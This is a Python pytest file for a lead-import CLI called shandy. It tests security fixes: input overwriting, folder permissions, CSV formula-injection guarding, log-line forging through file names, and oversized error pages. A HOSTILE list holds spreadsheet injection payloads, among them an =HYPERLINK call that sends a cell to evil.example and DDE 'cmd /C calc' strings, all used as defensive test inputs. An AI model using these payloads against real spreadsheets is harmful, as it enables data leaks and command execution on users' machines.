"""Issue 12 under attack (items 1, 5, 8, 9): the files shandy writes for people.

Each test here failed before its fix: ``--rejects`` naming an input (or a link to
one) replaced the source with its rejects; ``--report-dir .`` turned a team's 2775
folder into 0700; a rejects file opened in a spreadsheet ran ``=HYPERLINK(...)``;
piped ``shandy runs`` cut run ids to ``20261201T2…``; ``status --wait`` said nothing
of a chunk's rows; a file name with a newline forged a log line; and a server's
error page arrived whole, every line of it, in the error message.
"""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shandy_cli.pipeline.formulas import guard, unguard
from shandy_cli.pipeline.reporting import RowsWriter
from shandy_cli.pipeline.sources import open_source
from shandy_cli.sandbox import Sandbox
from tests import test_attack_11
from tests.test_attack_11 import Answer, Decide, Hostile
from tests.test_import import HEADER
from tests.test_import import leads as rows_of

SECRET = "attack-12-key"


def shandy(
    *args: str, cwd: Path, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("SALESHANDY_", "SHANDY_"))}
    base.update({"SHANDY_STATE_DIR": str(cwd / "state"), "SHANDY_SANDBOX_DELAY": "0.05"})
    base.update(env or {})
    if args[0] in ("import", "resume") and "--poll-interval" not in args:
        args = (*args, "--poll-interval", "0.05")  # not the live 3 s before the first poll
    command = [sys.executable, "-m", "shandy_cli", *args]
    return subprocess.run(command, capture_output=True, text=True, env=base, cwd=cwd, timeout=120)


hostile = test_attack_11.hostile  # the same fixture: servers whose answers a test decides


def at(sandbox: Sandbox) -> dict[str, str]:
    return {"SALESHANDY_BASE_URL": sandbox.url, "SALESHANDY_API_KEY": SECRET}


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def leads(path: Path, n: int = 4, bad: int = 2, tag: str = "p") -> Path:
    rows = [["Email", "First Name"], *([f"{tag}{i}@example.com", f"Ann{i}"] for i in range(n))]
    return write_rows(path, rows + [[f"broken{i}", "Bo"] for i in range(bad)])


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def posts(sandbox: Sandbox) -> int:
    return sum(r["method"] == "POST" for r in sandbox.requests())


def error_lines(result: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith("shandy: error:")]


# -- 1. never overwrite an input ----------------------------------------------------------------


@pytest.mark.parametrize("how", ["same", "symlink", "hardlink", "failures", "other-input"])
def test_rejects_or_failures_that_are_an_input_stop_before_sending(
    sandbox: Sandbox, tmp_path: Path, how: str
) -> None:
    src = leads(tmp_path / "leads.csv")
    other = leads(tmp_path / "more.csv", tag="m")
    original = src.read_bytes()
    inputs = [str(src)]
    rejects = src
    if how == "symlink":
        rejects = tmp_path / "link.csv"
        rejects.symlink_to(src)
    elif how == "hardlink":
        rejects = tmp_path / "hard.csv"
        os.link(src, rejects)
    elif how == "failures":  # the failures file derived from --rejects is the input
        rejects = tmp_path / "leads.rejects.csv"
        src = src.rename(tmp_path / "leads.failures.csv")
        inputs = [str(src)]
    elif how == "other-input":
        rejects, inputs = other, [str(src), str(other)]
    result = shandy(
        "import", *inputs, "--step", "StepA1", "--rejects", str(rejects), cwd=tmp_path,
        env=at(sandbox),
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert len(error_lines(result)) == 1 and "input" in result.stderr, result.stderr
    assert (other if how == "other-input" else src).name in result.stderr
    assert posts(sandbox) == 0
    assert src.read_bytes() == original and other.read_bytes().startswith(b"Email")


def test_default_rejects_path_is_never_an_input(sandbox: Sandbox, tmp_path: Path) -> None:
    """``a.csv a.rejects.csv`` together: the first's default rejects file is the second."""
    first = leads(tmp_path / "a.csv")
    second = leads(tmp_path / "a.rejects.csv", tag="r")
    before = second.read_bytes()
    result = shandy("import", str(first), str(second), "--step", "StepA1", cwd=tmp_path,
                    env=at(sandbox))  # fmt: skip
    assert result.returncode == 2 and len(error_lines(result)) == 1, result.stderr
    assert "--rejects" in result.stderr and posts(sandbox) == 0
    assert second.read_bytes() == before


def test_dry_run_never_overwrites_an_input(tmp_path: Path) -> None:
    src = leads(tmp_path / "leads.csv")
    before = src.read_bytes()
    result = shandy("import", str(src), "--dry-run", "--rejects", str(src), cwd=tmp_path)
    assert result.returncode == 2 and len(error_lines(result)) == 1, result.stderr
    assert src.read_bytes() == before


def test_a_report_named_like_an_input_does_not_replace_it(
    hostile: Callable[[Decide], Hostile], tmp_path: Path
) -> None:
    """A server whose request id is ``leads``, with ``--report-dir .`` beside ``leads.csv``:
    the report used to be saved over the input. It goes to the run's own folder instead."""
    report = b"Email,Reason\np0@example.com,blocked\n"

    def decide(method: str, path: str, headers: dict[str, str]) -> Answer | None:
        if method == "POST":
            return 201, {}, {"payload": {"requestId": "leads"}}
        if path.startswith("/v1/prospects/import-status/"):
            url = f"{server.url}/report.csv"
            return 200, {}, {"payload": {"isCompleted": True, "reportURL": url}}
        if path.startswith("/report.csv"):
            return 200, {}, report
        return None

    server = hostile(decide)
    src = write_rows(tmp_path / "leads.csv", [HEADER, *rows_of(3)])
    before = src.read_bytes()
    env = {"SALESHANDY_BASE_URL": server.url, "SALESHANDY_API_KEY": SECRET}
    done = shandy("import", "leads.csv", "--step", "S1", "--report-dir", ".", "--json",
                  cwd=tmp_path, env=env)  # fmt: skip
    assert src.read_bytes() == before, done.stderr
    doc = json.loads(done.stdout)
    assert doc["rows_failed"] == 1 and doc["failures_file"], done.stderr


# -- 5. leave other people's directories alone ------------------------------------------------


@pytest.mark.parametrize("folder_mode", [0o2775, 0o1777])
def test_report_and_state_dirs_that_exist_keep_their_mode(
    sandbox: Sandbox, tmp_path: Path, folder_mode: int
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(folder_mode)
    state = tmp_path / "team-state"
    state.mkdir()
    state.chmod(folder_mode)
    src = leads(tmp_path / "l.csv")
    env = {**at(sandbox), "SHANDY_STATE_DIR": str(state)}
    args = ("import", str(src), "--step", "StepA1", "--report-dir", str(shared), "--json")
    shandy(*args, cwd=tmp_path, env=env)
    again = shandy(*args, "--conflict", "overwrite", cwd=tmp_path, env=env)
    assert json.loads(again.stdout)["failures_file"], again.stderr
    assert mode(shared) == folder_mode and mode(state) == folder_mode
    reports = list(shared.iterdir())
    assert reports and all(mode(p) == 0o600 for p in reports)
    made = [p for p in state.rglob("*") if p.is_dir()]
    assert made and all(mode(p) & 0o777 == 0o700 for p in made), [oct(mode(p)) for p in made]


def test_missing_report_dir_and_parents_are_made_private(sandbox: Sandbox, tmp_path: Path) -> None:
    reports = tmp_path / "new" / "deeper"
    src = leads(tmp_path / "l.csv")
    rejects = tmp_path / "out" / "r.csv"
    args = ("import", str(src), "--step", "StepA1", "--report-dir", str(reports), "--json",
            "--rejects", str(rejects))  # fmt: skip
    shandy(*args, cwd=tmp_path, env=at(sandbox))
    shandy(*args, "--conflict", "overwrite", cwd=tmp_path, env=at(sandbox))
    for folder in (tmp_path / "new", reports, tmp_path / "out"):
        assert mode(folder) & 0o777 == 0o700, folder
    assert mode(rejects) == 0o600 and all(mode(p) == 0o600 for p in reports.iterdir())


# -- 8. files for people are safe in a spreadsheet, and byte-exact to import again -----------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+A1",
    "'=already quoted",
    "'plain quote",
    "\t=tabbed",
    "\r=cr",
]
HARMLESS = ["+14155550100", "-3.5", "+1 (415) 555-0100", "plain", "", "a=b", "O'Brien"]


@given(st.text())
@settings(max_examples=500, deadline=None)
def test_guard_round_trips_every_string(value: str) -> None:
    guarded = guard(value)
    assert unguard(guarded) == value
    # What is written starts with no formula trigger but the sign of a plain number.
    assert guarded[:1] not in ("=", "@", "\t", "\r") and (
        guarded[:1] not in ("+", "-") or guarded == value
    )
    assert guarded == value or guarded == "'" + value


# Text a CSV reader takes (no NULs or other controls, which mark a binary file),
# weighted towards the characters the guard is about.
CELL = st.text(st.characters(blacklist_categories=["Cs", "Cc"]) | st.sampled_from("\t\r\n'=@+-0 "))


@given(st.lists(CELL, min_size=2, max_size=2))
@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_a_rejects_file_reads_back_exactly(tmp_path: Path, values: list[str]) -> None:
    """RowsWriter, then the CSV reader of a file shandy wrote: the values it was given."""
    path = tmp_path / "r.rejects.csv"
    writer = RowsWriter(path, ["Email", "=Note"])
    writer.add("=in.csv", 3, ["Email", "=Note"], values, "@reason")
    writer.close()
    with open_source(str(path)) as source:
        assert source.info.columns == ["Email", "=Note", "_file", "_row", "_reason"]
        (row,) = list(source.rows())
    assert row.values == [*values, "=in.csv", "3", "@reason"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_guarded(value: str) -> None:
    assert guard(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_and_phones_stay_as_they_are(value: str) -> None:
    assert guard(value) == value and unguard(value) == value


def sandbox_prospects(sandbox: Sandbox) -> dict[str, dict[str, str]]:
    """What the sandbox holds, by email: the values it was sent."""
    answer = httpx.get(f"{sandbox.url}/v1/prospects", params={"pageSize": 100},
                       headers={"x-api-key": SECRET})  # fmt: skip
    people = {}
    for prospect in answer.json()["payload"]:
        people[prospect["email"]] = {a["key"]: a["value"] for a in prospect["attributes"]}
    return people


@pytest.mark.parametrize("columnar", ["0", "1"])
def test_fix_and_reimport_sends_the_refused_values_exactly(
    sandbox: Sandbox, tmp_path: Path, columnar: str
) -> None:
    """Rows with formula-like values are refused for their email; the rejects file guards
    them; fixing the emails and importing the rejects file sends the original values."""
    notes = HOSTILE + HARMLESS
    rows = [["Email", "First Name", "Company"]]
    rows += [[f"bad{i}", note, f"Co{i}"] for i, note in enumerate(notes)]
    src = write_rows(tmp_path / "leads.csv", rows)
    env = {**at(sandbox), "SHANDY_COLUMNAR": columnar}
    first = shandy("import", str(src), "--step", "StepA1", "--json", cwd=tmp_path, env=env)
    assert first.returncode == 1, first.stderr
    rejects = Path(json.loads(first.stdout)["rejects_file"])
    with rejects.open(newline="", encoding="utf-8") as fh:
        written = list(csv.reader(fh))
    by_note = {note: row[1] for note, row in zip(notes, written[1:], strict=True)}
    assert all(by_note[v] == "'" + v for v in HOSTILE), by_note
    assert all(by_note[v] == v for v in HARMLESS), by_note
    # Fixed in "a spreadsheet": only the email column changes, every other cell as written.
    fixed = [written[0], *([f"p{i}@example.com", *row[1:]] for i, row in enumerate(written[1:]))]
    write_rows(rejects, fixed)
    again = shandy("import", str(rejects), "--step", "StepA1", "--on-unknown-column", "ignore",
                   "--json", cwd=tmp_path, env=env)  # fmt: skip
    assert again.returncode == 0, again.stderr
    sent = sandbox_prospects(sandbox)
    for i, note in enumerate(notes):
        assert sent[f"p{i}@example.com"].get("First Name", "") == note.strip(), note


def test_an_ordinary_csv_starting_with_a_quote_is_read_as_it_is(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """Only files shandy wrote lose a leading ``'``: anyone else's values are theirs."""
    rows = [["Email", "First Name", "reason"], ["q@example.com", "'=kept", "'x"]]
    src = write_rows(tmp_path / "plain.csv", rows)
    done = shandy("import", str(src), "--step", "StepA1", "--on-unknown-column", "ignore",
                  cwd=tmp_path, env=at(sandbox))  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert sandbox_prospects(sandbox)["q@example.com"]["First Name"] == "'=kept"


def test_the_failures_file_is_guarded_and_its_rejects_copied_exactly(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """The failures file copies the rejects file: read back, guarded once, not twice."""
    rows = [["Email", "First Name"], ["bad", "=1+1"], ["p0@example.com", "Ann"]]
    src = write_rows(tmp_path / "l.csv", rows)
    args = ("import", str(src), "--step", "StepA1", "--json")
    shandy(*args, cwd=tmp_path, env=at(sandbox))
    again = shandy(*args, "--conflict", "overwrite", "--force", cwd=tmp_path, env=at(sandbox))
    failures = json.loads(again.stdout)["failures_file"]
    with open(failures, newline="", encoding="utf-8") as fh:
        cells = {row[0]: row[1] for row in csv.reader(fh)}
    assert cells["bad"] == "'=1+1", cells


# -- 9. small truths ----------------------------------------------------------------------------


def test_piped_runs_prints_whole_run_ids_that_resume_takes(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    deep = tmp_path / ("a-rather-long-folder-name-" * 3)
    deep.mkdir()
    src = leads(deep / "leads-with-a-long-name.csv", bad=0)
    done = shandy("import", str(src), "--step", "StepA1", "--no-wait", "--json", cwd=tmp_path,
                  env=at(sandbox))  # fmt: skip
    run_id = json.loads(done.stdout)["run_id"]
    listed = shandy("runs", cwd=tmp_path, env=at(sandbox))
    assert listed.returncode == 0, listed.stderr
    header, line = listed.stdout.splitlines()
    assert header.split("\t")[0] == "run"
    cells = line.split("\t")
    assert cells[0] == run_id and cells[4] == str(src), line
    resumed = shandy("resume", cells[0], "--json", cwd=tmp_path, env=at(sandbox))
    assert json.loads(resumed.stdout)["run_id"] == run_id, resumed.stderr


def test_status_wait_lines_give_a_journalled_chunks_rows(sandbox: Sandbox, tmp_path: Path) -> None:
    src = leads(tmp_path / "l.csv", n=7, bad=0)
    done = shandy("import", str(src), "--step", "StepA1", "--no-wait", "--json", cwd=tmp_path,
                  env=at(sandbox))  # fmt: skip
    rid = json.loads(done.stdout)["chunks"][0]["request_id"]
    waited = shandy("status", rid, "--wait", "--poll-interval", "0.05", cwd=tmp_path,
                    env=at(sandbox))  # fmt: skip
    assert waited.returncode == 0, waited.stderr
    assert f"chunk 1: completed request {rid} (7 rows)" in waited.stderr, waited.stderr


def test_a_newline_in_a_file_name_cannot_forge_a_log_line(sandbox: Sandbox, tmp_path: Path) -> None:
    forged = "2026-12-01T03:00:00 shandy: read all.csv: 1,000,000 rows"
    src = write_rows(tmp_path / f"x\n{forged}\r.csv", [["Email", "Extra"], ["a@example.com", "1"]])
    done = shandy("import", str(src), "--step", "StepA1", "--on-unknown-column", "ignore",
                  cwd=tmp_path, env=at(sandbox))  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not any(line.startswith(forged) for line in done.stderr.splitlines()), done.stderr
    assert "x\\n2026-12-01T03:00:00" in done.stderr  # the name is there, escaped
    warning = [line for line in done.stderr.splitlines() if "ignoring column" in line]
    assert len(warning) == 1 and "\\r.csv" in warning[0], done.stderr
    missing = shandy("import", str(tmp_path / f"gone\n{forged}.csv"), "--step", "StepA1",
                     cwd=tmp_path, env=at(sandbox))  # fmt: skip
    assert missing.returncode == 2 and len(missing.stderr.splitlines()) == 1, missing.stderr


def test_a_huge_error_page_is_one_short_line(
    hostile: Callable[[Decide], Hostile], tmp_path: Path
) -> None:
    page = "<html><head>\n<title>502 Bad Gateway</title></head><body>\n"
    page += "<p>upstream said no</p>\n" * 200_000 + "</body></html>"
    server = hostile(lambda method, path, headers: (400, {}, page.encode()))
    env = {"SALESHANDY_BASE_URL": server.url, "SALESHANDY_API_KEY": SECRET}
    done = shandy("fields", cwd=tmp_path, env=env)
    assert done.returncode == 2, done.stderr  # a 400: the API refused the call
    assert len(done.stderr.splitlines()) == 1 and len(done.stderr) < 400, done.stderr[:2000]
    assert "502 Bad Gateway" in done.stderr
    untitled = "<div>\n" + "x " * 500_000 + "\n</div>"
    server2 = hostile(lambda method, path, headers: (400, {}, untitled.encode()))
    env["SALESHANDY_BASE_URL"] = server2.url
    again = shandy("fields", cwd=tmp_path, env=env)
    assert len(again.stderr.splitlines()) == 1 and len(again.stderr) < 400, again.stderr[:2000]
